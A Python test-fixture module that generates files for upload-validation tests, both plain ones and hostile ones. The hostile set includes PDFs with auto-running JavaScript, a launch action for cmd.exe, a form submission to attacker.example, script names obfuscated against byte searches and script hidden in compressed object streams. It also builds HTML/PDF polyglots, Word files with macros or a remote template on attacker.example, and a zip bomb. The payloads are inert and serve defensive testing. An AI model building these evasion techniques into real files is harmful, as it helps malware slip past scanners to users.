"""Real files, good and hostile, for the upload tests: PDFs with scripts hidden in the ways
attackers hide them, HTML+PDF polyglots, Word files with macros or remote templates, zip bombs."""

from __future__ import annotations

import io
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)


def _written(writer: PdfWriter) -> bytes:
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def plain_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_uri(0, "https://www.example.org/", [10, 10, 100, 30])  # links are fine
    return _written(writer)


def pdf_with_open_action(action: dict[str, object]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(key): value for key, value in action.items()}  # type: ignore[misc]
    )
    return _written(writer)


def javascript_pdf() -> bytes:
    return pdf_with_open_action(
        {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    )


def launch_pdf() -> bytes:
    return pdf_with_open_action(
        {"/S": NameObject("/Launch"), "/F": TextStringObject("C:\\Windows\\System32\\cmd.exe")}
    )


def submit_form_pdf() -> bytes:
    return pdf_with_open_action(
        {
            "/S": NameObject("/SubmitForm"),
            "/F": TextStringObject("https://attacker.example/collect"),
        }
    )


def attachment_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return _written(writer)


def page_action_pdf() -> bytes:
    """A script that runs when the page opens (/AA on the page, not the catalogue)."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert(2)"),
                }
            )
        }
    )
    return _written(writer)


def xfa_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )
    return _written(writer)


def escaped_name_pdf() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` to every reader, but not to a byte search."""
    return (
        javascript_pdf()
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS ", b"/J#53 ")
        .replace(b"/JS(", b"/J#53(")
    )


def object_stream_pdf() -> bytes:
    """The script's action dictionary compressed inside an object stream (PDF 1.5), found
    through a cross-reference stream: no byte of it is readable in the file."""
    action = b"<< /S /JavaScript /JS (app.alert(3)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + action)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    out = b"%PDF-1.5\n"
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    rows = [(0, 0, 65535)] + [(1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [(2, 4, 0), (1, xref_at, 0)]
    table = zlib.compress(
        b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for t, a, b in rows)
    )
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="AES-128")
    return _written(writer)


def html_then_pdf() -> bytes:
    """A page that is an HTML document to a browser and a PDF to a lenient reader."""
    return b"<html><body><script>alert(document.cookie)</script>\n" + plain_pdf()


def pdf_then_html() -> bytes:
    return plain_pdf() + b"\n<html><body><script>alert(document.cookie)</script></body></html>"


def png_bytes() -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (4, 4), "navy").save(stream, format="PNG")
    return stream.getvalue()


def jpeg_bytes() -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (4, 4), "navy").save(stream, format="JPEG")
    return stream.getvalue()


def docx_bytes(*paragraphs: str) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs or ("Terms of reference",):
        document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def rezipped(content: bytes, parts: dict[str, bytes]) -> bytes:
    """The zip ``content`` with ``parts`` added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in parts:
                target.writestr(item, source.read(item.filename))
        for name, value in parts.items():
            target.writestr(name, value)
    return out.getvalue()


def docx_with_macros() -> bytes:
    return rezipped(docx_bytes(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA macros"})


def docx_with_remote_template() -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return rezipped(docx_bytes(), {"word/_rels/settings.xml.rels": rels})


def docx_bomb(megabytes: int = 30) -> bytes:
    """A small .docx whose document part unpacks to ``megabytes`` of XML."""
    original = zipfile.ZipFile(io.BytesIO(docx_bytes())).read("word/document.xml")
    padding = b"<!--" + b" " * (megabytes * 1024 * 1024) + b"-->"
    return rezipped(docx_bytes(), {"word/document.xml": original + padding})


def odt_bytes(*, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        archive.writestr(
            "content.xml",
            b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
            b'opendocument:xmlns:office:1.0"><office:body><office:text/></office:body>'
            b"</office:document-content>",
        )
        archive.writestr("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest/>')
        for name, value in (extra or {}).items():
            archive.writestr(name, value)
    return out.getvalue()
